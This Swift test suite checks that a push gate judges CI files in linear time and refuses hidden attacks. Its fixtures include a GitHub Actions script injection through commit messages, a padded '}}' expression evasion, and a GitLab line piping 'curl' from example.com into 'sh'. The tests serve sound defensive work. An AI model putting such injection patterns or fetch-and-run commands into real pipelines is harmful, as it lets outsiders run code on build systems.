import Foundation
import TestSupport
import XCTest

/// Pathological input is no way to `on_timeout: accept`: under a server policy that accepts pushes
/// the deadline cut short, files shaped to make the gate's work quadratic (thousands of scalars on
/// one line, each of which used to be searched for from the start of that line) are judged in time
/// and refused for what they hide; their twins, as large but harmless, are judged and accepted, not
/// let through by the deadline. The expression delimiters an attacker can pad are tested too.
final class LinearTimeTrustTests: TrustTestCase {
    /// Generous for a debug build on a loaded machine; before the fix either attack took minutes.
    private static let acceptOnTimeout = """
        version: 1
        deadline: 10s
        on_timeout: accept
        protected:
          refs: ["main"]

        """
    /// Scalars per line: about 200 KB of workflow or pipeline.
    private static let count = 4_000

    private func pushFile(_ path: String, _ text: String) throws -> Shell.Result {
        try server.clone.write(path, text)
        try server.clone.commitAll("add \(path)")
        return try server.push("main")
    }

    /// Judged, not let through by the deadline: no on_timeout listing in the push output.
    private func assertJudgedInTime(_ result: Shell.Result, file: StaticString = #filePath, line: UInt = #line) {
        XCTAssertFalse(result.stderr.contains("on_timeout: accept"), "the deadline decided, not the gate:\n\(result.stderr.suffix(2_000))", file: file, line: line)
    }

    /// Thousands of flow steps on one line, each expanding a field of its own commit
    /// (`message`, which the pusher writes, or `id`) into its script.
    private static func flowStepsWorkflow(field: String) -> String {
        let steps = (0..<count).map { "{run: 'echo ${{ github.event.commits[\($0)].\(field) }}'}" }
        return "on: issues\npermissions: {contents: read}\njobs:\n  a: {runs-on: ubuntu-latest, steps: [\(steps.joined(separator: ", "))]}\n"
    }

    /// Thousands of script lines of one job on one line, the last one `command`.
    private static func flowScriptPipeline(lastCommand command: String) -> String {
        let lines = (0..<count).map { "'echo step \($0) of the build and some padding'" } + ["'\(command)'"]
        return "build:\n  image: alpine:3.20@sha256:\(String(repeating: "0", count: 64))\n  script: [\(lines.joined(separator: ", "))]\n"
    }

    func testInjectionAfterThousandsOfFlowStepsIsJudgedInTimeAndRefused() throws {
        try start(policy: Self.acceptOnTimeout)
        let result = try pushFile(".github/workflows/triage.yml", Self.flowStepsWorkflow(field: "message"))
        assertRefused(result)
        assertJudgedInTime(result)
        XCTAssertTrue(result.stderr.contains("GHA-SCRIPT-INJECTION"), result.stderr.suffix(2_000).description)
    }

    func testThousandsOfHarmlessFlowStepsAreJudgedInTimeAndAccepted() throws {
        try start(policy: Self.acceptOnTimeout)
        let result = try pushFile(".github/workflows/triage.yml", Self.flowStepsWorkflow(field: "id"))
        assertAccepted(result)
        assertJudgedInTime(result)
    }

    func testPipeToShellAfterThousandsOfScriptLinesIsJudgedInTimeAndRefused() throws {
        try start(policy: Self.acceptOnTimeout)
        let result = try pushFile(".gitlab-ci.yml", Self.flowScriptPipeline(lastCommand: "curl -fsSL https://example.com/i.sh | sh"))
        assertRefused(result)
        assertJudgedInTime(result)
        XCTAssertTrue(result.stderr.contains("GITLAB-PIPE-TO-SHELL"), result.stderr.suffix(2_000).description)
    }

    func testThousandsOfHarmlessScriptLinesAreJudgedInTimeAndAccepted() throws {
        try start(policy: Self.acceptOnTimeout)
        let result = try pushFile(".gitlab-ci.yml", Self.flowScriptPipeline(lastCommand: "make test"))
        assertAccepted(result)
        assertJudgedInTime(result)
    }

    /// `}}` inside a string literal does not close an expression for the runner, so it must not for
    /// the gate: padding the expression with one would hide the untrusted context after it.
    private static func formattedWorkflow(_ argument: String) -> String {
        "on: issues\npermissions: {contents: read}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ format('}}{0}', \(argument)) }}\"\n"
    }

    func testExpressionPaddedWithAClosingBraceInAStringIsRefused() throws {
        try start(policy: Self.acceptOnTimeout)
        let result = try pushFile(".github/workflows/triage.yml", Self.formattedWorkflow("github.event.issue.title"))
        assertRefused(result)
        XCTAssertTrue(result.stderr.contains("GHA-SCRIPT-INJECTION"), result.stderr.suffix(2_000).description)
    }

    func testTrustedValueFormattedWithAClosingBraceInAStringIsAccepted() throws {
        try start(policy: Self.acceptOnTimeout)
        assertAccepted(try pushFile(".github/workflows/triage.yml", Self.formattedWorkflow("github.sha")))
    }
}
